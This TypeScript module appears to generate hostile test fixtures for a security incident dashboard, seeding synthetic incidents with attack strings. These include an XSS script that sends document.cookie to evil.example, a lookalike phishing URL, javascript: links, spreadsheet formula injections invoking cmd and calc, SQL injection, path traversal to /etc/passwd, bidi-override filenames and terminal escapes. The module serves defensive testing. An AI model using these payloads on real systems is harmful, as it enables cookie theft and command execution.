import type { Poison } from './evidence-context.ts';
import { mix } from './random.ts';

/** What an attacker managed to write into an incident. Members left out stay ordinary. */
export interface Hostility {
  readonly title?: string;
  readonly description?: string;
  readonly tag?: string;
  /** `foreign-tenant`: the link names another tenant; `script`: it is no web address at all. */
  readonly link?: 'foreign-tenant' | 'script' | 'other-host' | 'none';
  readonly poison: Poison;
  /** Keys of the open type `dictionary` that clash with those of JavaScript objects. */
  readonly strangeKeys?: boolean;
}

/** One incident in this many carries something hostile. */
const ONE_IN = 60;
const LONG = 100 * 1024;

const KINDS: readonly Hostility[] = [
  {
    title: '<script>fetch("https://evil.example/"+document.cookie)</script>',
    poison: { fileName: '"><img src=x onerror=alert(1)>.exe' },
  },
  {
    title: '<img src=x onerror="alert(document.domain)"> malware was prevented',
    poison: { displayName: '<svg/onload=alert(1)>', subject: '<b>Invoice</b>' },
  },
  {
    title: '</style><style>body{display:none}</style> Suspicious file',
    poison: { commandLine: 'cmd /c echo <iframe src=javascript:alert(1)></iframe>' },
  },
  {
    title: 'Suspicious sign-in [click here](javascript:alert(1))',
    link: 'script',
    poison: { url: 'javascript:alert(document.cookie)' },
  },
  { link: 'foreign-tenant', poison: {} },
  {
    link: 'other-host',
    poison: { url: 'https://security.microsoft.com.evil.example/incidents/1' },
  },
  { link: 'none', poison: {} },
  {
    title: 'Malware in \u202Etxt.exe\u202C on one endpoint',
    poison: { fileName: 'invoice_\u202Efdp.exe' },
  },
  { title: 'Inno\u200Bcent\u200D file\uFEFF detected', poison: { displayName: 'Ad\u200Bmin' } },
  {
    title: 'Sign-in to Μicrosоft Аzure from a rare country',
    poison: { displayName: 'Аdministrаtor' },
  },
  {
    title: 'Bell\u0007 and escape \u001B[31mred\u001B[0m and null\u0000 in a title',
    poison: { commandLine: 'printf "\u001B]0;owned\u0007"' },
  },
  {
    title: '=HYPERLINK("https://evil.example","open")',
    tag: '=1+1',
    poison: { fileName: '=cmd|/c calc!A1.xlsx', displayName: '+SUM(1,2)' },
  },
  { title: "@SUM(A1:A9)*cmd|' /C calc'!A0", tag: '-2+3', poison: { commandLine: '\t=1+1' } },
  {
    title: 'תוכנה זדונית נחסמה במחשב של המנהל',
    poison: { fileName: 'חשבונית_2219.exe', displayName: 'דנה כהן' },
  },
  {
    title: 'تم حظر برنامج ضار على الجهاز',
    poison: { fileName: 'فاتورة.exe', commandLine: 'cmd /c تشغيل' },
  },
  {
    title: '端末で不審な PowerShell コマンドが実行されました',
    poison: { fileName: '請求書.xlsm', displayName: '田中 智子' },
  },
  {
    title: '🔥🚨 Ransomware 🏴‍☠️ on 👩🏽‍💻 device',
    poison: { fileName: '💰.exe', subject: '🎁 for you' },
  },
  { title: 'Z̷̢̛a̸͎͝l̶̰̿g̵̺̈o̴̼͑ file was prevented', poison: { fileName: '../../../../etc/passwd' } },
  {
    title: "Robert'); DROP TABLE incidents;--",
    tag: "' OR 1=1 --",
    poison: { commandLine: "sqlcmd -Q \"' OR ''='\"" },
  },
  {
    title: '{{constructor.constructor("alert(1)")()}} ${7*7}',
    poison: { displayName: '__proto__' },
    strangeKeys: true,
  },
  { title: 'Line one\nLine two\r\nLine three\u2028and four', poison: { fileName: 'a\nb.exe' } },
  { title: '   ', poison: { displayName: '' } },
];

const VERY_LONG: Hostility = {
  title: `Very long title ${'A'.repeat(4_000)}`,
  description: 'Long text of an attacker. '.repeat(LONG / 26),
  poison: { commandLine: `powershell.exe -enc ${'QQBB'.repeat(LONG / 4)}` },
};

/** What is hostile about one incident, or null for the ordinary ones. About one in 2,000 is very long. */
export function hostilityOf(seed: number, tenantIndex: number, row: number): Hostility | null {
  const bits = mix(seed, tenantIndex, 31, row);
  if (bits % ONE_IN !== 0) return null;
  const kind = Math.floor(bits / ONE_IN);
  if (kind % 35 === 34) return VERY_LONG;
  return KINDS[kind % KINDS.length] ?? null;
}
